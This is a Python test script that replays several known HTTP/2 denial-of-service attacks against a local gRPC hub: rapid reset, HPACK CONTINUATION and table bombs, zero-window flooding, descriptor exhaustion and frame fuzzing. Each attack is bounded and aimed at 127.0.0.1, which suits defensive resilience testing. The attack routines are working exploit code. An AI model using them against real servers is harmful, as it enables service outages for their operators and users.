# SPDX-License-Identifier: Apache-2.0
"""The HTTP/2 faults of gRPC 1.51 that its distribution does not patch, played against a hub over raw sockets.

Each attack is bounded in count and time and speaks to 127.0.0.1 only. usage: tests/hub/h2_attacks.py PORT [ATTACK...]
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing, both as plain strings."""
    return b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) + value


def integer(value, bits):
    """An HPACK integer behind `bits` bits of prefix, the rest of the first byte zero."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def request(path, more=b""):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", path) + literal(b":authority", b"hub") +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + more)


def connect(port, settings=b"", timeout=5):
    s = socket.create_connection(("127.0.0.1", port), timeout)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def drain(s, seconds=0.2):
    """Read and forget what is there, so that the peer's sends do not block; False: the peer has closed."""
    s.settimeout(seconds)
    try:
        return bool(s.recv(1 << 20))
    except TimeoutError:
        return True
    except OSError:
        return False


def rapid_reset(port, streams=60000, seconds=15):
    """CVE-2023-44487: streams opened and reset at once, which no limit of concurrent streams counts."""
    header = request(b"/why.v1.AgentHub/Connect")
    end, stream, sent = time.monotonic() + seconds, 1, 0
    s = connect(port)
    s.setblocking(True)
    s.settimeout(seconds)
    try:
        while sent < streams and time.monotonic() < end:
            burst = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, header) + frame(RST_STREAM, 0, stream + 2 * i, b"\0\0\0\x08")
                             for i in range(100))
            s.sendall(burst)
            stream += 200
            sent += 100
    except OSError:
        pass
    finally:
        s.close()
    return sent


def hpack_crawl(port, frames=150000, seconds=15):
    """CVE-2023-33953: one header string promised large and delivered byte by byte in CONTINUATION frames; and integers without end."""
    sent = 0
    end = time.monotonic() + seconds
    for begin, part in ((b"\x00" + integer(1 << 24, 7), b"a" * 64), (b"\x00\xff", b"\x80" * 16)):
        s = connect(port)
        s.settimeout(seconds)
        try:
            s.sendall(frame(HEADERS, 0, 1, begin))
            for _ in range(frames):
                s.sendall(frame(CONTINUATION, 0, 1, part))
                sent += 1
                if time.monotonic() > end:
                    break
            time.sleep(max(0.0, min(8.0, end - time.monotonic())))  # held open while the parser works
        except OSError:
            pass
        finally:
            s.close()
    return sent


def hpack_bomb(port, requests=200, seconds=15):
    """A large header in the dynamic table, then referred to thousands of times in one small frame."""
    end, sent = time.monotonic() + seconds, 0
    s = connect(port)
    s.settimeout(seconds)
    try:
        large = b"\x40" + integer(4, 7) + b"bomb" + integer(3900, 7) + b"b" * 3900
        s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(b"/why.v1.AgentHub/Connect", large)))
        for i in range(requests):
            block = request(b"/why.v1.AgentHub/Connect") + b"\xbe" * 12000  # index 62: the newest entry
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * i, block))
            sent += 1
            if time.monotonic() > end or not drain(s, 0.001):
                break
    except OSError:
        pass
    finally:
        s.close()
    return sent


def never_reads(port, connections=40, seconds=8):
    """Questions with large answers, a window of nothing, and nobody who reads."""
    held, asked = [], 0
    message = b"\x08\x02"  # a Question of kind LIST
    body = b"\0" + struct.pack(">I", len(message)) + message
    for _ in range(connections):
        try:
            s = connect(port, struct.pack(">HI", 4, 0))
            for i in range(8):
                s.sendall(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(b"/why.v1.Query/ListFindings")) +
                          frame(DATA, END_STREAM, 1 + 2 * i, body))
                asked += 1
            held.append(s)
        except OSError:
            break
    time.sleep(seconds)
    for s in held:
        s.close()
    return asked


def crowd(port, connections=600, seconds=8):
    """CVE-2023-4785: more connections than the hub has descriptors; accept fails, and the listener may never come back."""
    held = []
    for _ in range(connections):
        try:
            s = socket.create_connection(("127.0.0.1", port), 1)
            held.append(s)
        except OSError:
            break
    time.sleep(seconds)
    for s in held:
        s.close()
    return len(held)


def garbage(port, connections=200, seconds=10):
    """Frames of every type and flag with wrong lengths and streams, from a fixed seed."""
    import random
    dice = random.Random(1)
    end, sent = time.monotonic() + seconds, 0
    for _ in range(connections):
        if time.monotonic() > end:
            break
        try:
            s = connect(port)
            s.settimeout(1)
            for _ in range(20):
                s.sendall(frame(dice.randrange(12), dice.randrange(256), dice.randrange(4), dice.randbytes(dice.randrange(64))))
                sent += 1
            s.close()
        except OSError:
            pass
    return sent


ATTACKS = {f.__name__: f for f in (rapid_reset, hpack_crawl, hpack_bomb, never_reads, crowd, garbage)}


def main():
    port = int(sys.argv[1])
    for name in sys.argv[2:] or ATTACKS:
        begin = time.monotonic()
        print(f"{name}: {ATTACKS[name](port)} in {time.monotonic() - begin:.1f} s", flush=True)


if __name__ == "__main__":
    main()
